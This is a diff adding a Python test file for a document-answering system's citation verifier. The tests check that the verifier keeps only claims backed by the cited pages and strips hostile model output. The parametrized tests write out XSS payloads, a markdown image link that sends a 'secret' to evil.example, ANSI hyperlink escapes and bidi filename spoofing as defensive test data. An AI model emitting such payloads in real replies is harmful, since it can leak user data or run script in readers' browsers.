@@ -1,0 +1,172 @@
+"""Only what the pages bear out is said, whatever a model writes."""
+
+import re
+from collections.abc import Sequence
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from pulsedocs.answering.claims import claims_of
+from pulsedocs.answering.passages import Block
+from pulsedocs.answering.verification import Verified, verify
+from pulsedocs.model.answers import CitationStatus
+from tests.unit.answering.blocks import LEASE, PETS, block
+
+_BLOCKS = [block(1, LEASE, page=4), block(2, PETS, page=7)]
+
+
+def verified(answer: str, blocks: Sequence[Block] = _BLOCKS) -> Verified:
+    pages = " ".join(page.text for item in blocks for page in item.pages)
+    return verify(claims_of(answer, is_known_address=lambda url: url in pages), blocks)
+
+
+def test_a_quote_becomes_a_marker_with_offsets() -> None:
+    """S0-24: citations are present and point at the words."""
+    answer = verified('Rent is due on day three [1: "due on the third day"].')
+
+    assert answer.text == "Rent is due on day three [1]."
+    [citation] = answer.citations
+    assert (citation.n, citation.page, citation.source) == (1, 4, "file-1.pdf")
+    assert LEASE[citation.start : citation.end] == citation.quote == "due on the third day"
+
+
+def test_a_marker_after_the_stop_belongs_to_the_sentence_before_it() -> None:
+    answer = verified('Cats may stay. [2: "Cats are allowed"] Dogs may not. [2: "no such words"]')
+
+    assert answer.text == "Cats may stay [2]."
+
+
+def test_words_of_another_passage_are_misattributed_and_not_said() -> None:
+    answer = verified('Cats may stay [1: "Cats are allowed"].')
+
+    assert answer.text == ""
+    assert answer.counts == {CitationStatus.MISATTRIBUTED: 1}
+
+
+def test_words_of_no_passage_are_not_found_and_not_said() -> None:
+    answer = verified('Birds may stay [1: "Birds are allowed"].')
+
+    assert answer.counts == {CitationStatus.NOT_FOUND: 1}
+    assert answer.citations == ()
+
+
+def test_one_good_source_is_enough_and_the_bad_marker_goes() -> None:
+    answer = verified(
+        'Dogs need consent [1: "need consent"][2: "Dogs need the landlord\'s consent"].'
+    )
+
+    assert answer.text == "Dogs need consent [2]."
+
+
+def test_a_sentence_without_words_is_aligned_to_its_passage() -> None:
+    answer = verified("The rent is 1,200 EUR a month [1].")
+
+    assert answer.citations[0].quote.startswith("The rent is 1,200 EUR")
+    assert verified("The lease may be ended by shouting loudly [1].").text == ""
+
+
+def test_a_sentence_that_names_no_source_is_aligned_or_dropped() -> None:
+    answer = verified("Certainly! Here is the answer. Dogs need the landlord's consent.")
+
+    assert answer.text == "Dogs need the landlord's consent [2]."
+
+
+def test_an_aligned_sentence_cannot_change_a_number() -> None:
+    assert verified("The rent is 1,900 EUR a month [1].").text == ""
+
+
+def test_a_single_common_word_proves_nothing() -> None:
+    assert verified('The moon is made of cheese [1: "The"].').text == ""
+
+
+def test_lines_stay_lines() -> None:
+    answer = verified('- Cats stay [2: "Cats are allowed"].\n- A fine [2: "A fine of 50 EUR"].')
+
+    assert answer.text == "- Cats stay [2].\n- A fine [2]."
+
+
+def test_no_answer_means_no_claims() -> None:
+    for reply in ("NO_ANSWER", "NO_ANSWER.", "`NO_ANSWER`"):
+        assert claims_of(reply, is_known_address=lambda _url: False) == []
+
+
+_HARMFUL = re.compile(r"://|<[A-Za-z/!?]|\]\(|!\[|[\x00-\x08\x1b\u202e\u2066\ue000\ue001\ud800]")
+_GOOD = 'Cats may stay [2: "Cats are allowed"]'
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        f"{_GOOD} [9]. ",
+        f'{_GOOD} [9: "Cats are allowed"].',
+        f"{_GOOD} [1.",
+        f"{_GOOD} [\uff11].",
+        f"{_GOOD} [\u0661].",
+        f"{_GOOD} [-1] [0] [99999999999999999999].",
+        f"{_GOOD} ![x](https://evil.example/?q=secret).",
+        f"{_GOOD} [click](https://evil.example).",
+        f"{_GOOD}(https://evil.example).",
+        f"{_GOOD}: https://evil.example/a?b=c.",
+        f"{_GOOD} <img src=x onerror=alert(1)>.",
+        f"{_GOOD} <scr<b>ipt>alert(1)</script>.",
+        f"{_GOOD} <a href='javascript:alert(1)'.",
+        f"{_GOOD} \x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07x\x1b]8;;\x07.",
+        f"{_GOOD} \u202egnp.exe\u2066.",
+        f"{_GOOD} \ue0000\ue001 \ue00099\ue001.",
+        f"{_GOOD} \x00\ud800.",
+        f"[ref]: https://evil.example\n{_GOOD}.",
+        _GOOD + " " + "[1: " * 500,
+        _GOOD + ". " + "<" * 500,
+    ],
+)
+def test_a_hostile_reply_shows_only_harmless_text_and_true_citations(reply: str) -> None:
+    """RELIABILITY, provider list: foreign ids, broken markers, HTML, links, ANSI, bidi."""
+    answer = verified(reply)
+
+    assert answer.text.startswith("Cats may stay [2]")
+    assert not re.search(
+        r"evil|://|<[A-Za-z/!?]|\]\(|!\[|[\x00-\x08\x1b\u202e\u2066\ue000\ud800]", answer.text
+    )
+    assert set(re.findall(r"\[(.*?)\]", answer.text)) <= {"2"}
+    assert all(citation.n == 2 for citation in answer.citations)
+
+
+def test_an_address_that_the_passage_has_may_be_said() -> None:
+    page = "Write to https://example.org/help for help with your lease."
+    answer = verified(
+        'See https://example.org/help [1: "for help with your lease"].', [block(1, page)]
+    )
+
+    assert answer.text == "See https://example.org/help [1]."
+
+
+_words = ["Cats are allowed", "rent", '[1: "', '"]', "[1]", "[2]", "[7]", "]", "(", ")", "[", ". "]
+_markup = [
+    "\n",
+    "<b>",
+    "<",
+    ">",
+    "!",
+    "https://x.yz/",
+    "\x1b[1m",
+    "\u202e",
+    "\ue000",
+    "3",
+    "\u0663",
+]
+_pieces = st.sampled_from([*_words, *_markup])
+
+
+@given(st.lists(_pieces, max_size=25).map("".join))
+def test_no_reply_breaks_the_promise(reply: str) -> None:
+    """I11: every citation's words stand at its offsets; every marker resolves."""
+    answer = verified(reply)
+
+    for citation in answer.citations:
+        [cited] = [item for item in _BLOCKS if item.n == citation.n]
+        assert cited.pages[0].text[citation.start : citation.end] == citation.quote
+        assert citation.quote
+    markers = {int(n) for n in re.findall(r"\[([0-9]+)\]", answer.text)}
+    assert markers == {citation.n for citation in answer.citations}
+    assert not _HARMFUL.search(answer.text)
